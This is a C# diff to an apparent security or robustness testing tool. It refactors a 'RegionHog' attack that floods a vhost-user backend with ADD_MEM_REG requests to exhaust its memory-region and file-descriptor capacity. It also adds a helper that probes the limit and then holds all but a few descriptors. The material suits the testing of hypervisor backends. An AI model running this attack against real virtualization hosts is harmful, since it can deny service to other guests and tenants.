@@ -29,11 +29,11 @@ internal sealed class RegionHog : Attack
         {
             try
             {
-                AddRegions(guest.Connect(), guest.Memory, 509);
+                _ = AddRegions(guest.Connect(), guest.Memory.Regions[0].File.Value, 509);
             }
             catch (VhostUserFrontendException e) when (e.Error != FrontendError.TimedOut)
             {
-                // Refused, and the next socket may have more.
+                // Turned away; the next socket may have more.
             }
         }
 
@@ -43,20 +43,41 @@ internal sealed class RegionHog : Attack
     protected override void Release() => _guests.ForEach(g => g.Dispose());
 
     /// <summary>Adds regions of one page behind the guest's own memory, all of one file.</summary>
-    public static void AddRegions(VhostUserFrontend frontend, GuestMemory memory, int count)
+    /// <returns>How many were taken.</returns>
+    public static int AddRegions(VhostUserFrontend frontend, int file, int count)
     {
-        int file = memory.Regions[0].File.Value;
         byte[] payload = new byte[MemoryRegionPayload.PrefixSize + MemoryRegionPayload.Size];
         for (int i = 0; i < count; i++)
         {
             ulong at = 0x10_0000_0000 + ((ulong)i << 13);
             Wire.Write(payload.AsSpan(MemoryRegionPayload.PrefixSize), new MemoryRegionPayload(at, 4096, at, 0));
-            frontend.SendMessage((uint)RequestCode.ADD_MEM_REG, MessageHeader.Version | MessageHeader.NeedReplyFlag, payload, file);
-            using ReceivedMessage? reply = frontend.ReceiveRaw();
-            if (reply is null || reply.Value != 0)
+            try
             {
-                throw new VhostUserFrontendException(FrontendError.Refused, $"region {i} was refused");
+                frontend.SendMessage((uint)RequestCode.ADD_MEM_REG, MessageHeader.Version | MessageHeader.NeedReplyFlag, payload, file);
+                using ReceivedMessage? reply = frontend.ReceiveRaw();
+                if (reply is null || reply.Value != 0)
+                {
+                    return i;
+                }
             }
+            catch (VhostUserFrontendException e) when (e.Error != FrontendError.TimedOut)
+            {
+                return i;
+            }
+        }
+
+        return count;
+    }
+
+    /// <summary>Takes all descriptors that there are but for a few: finds out how many regions are too many, and shares as many less.</summary>
+    public static void TakeAllBut(AttackGuest guest, int left)
+    {
+        int file = guest.Memory.Regions[0].File.Value;
+        int most = AddRegions(guest.Connect(), file, 509);
+        if (most < 509)
+        {
+            // The one too many may have ended the session, and with it all the others went back.
+            _ = AddRegions(guest.Connect(), file, most - left);
         }
     }
 }
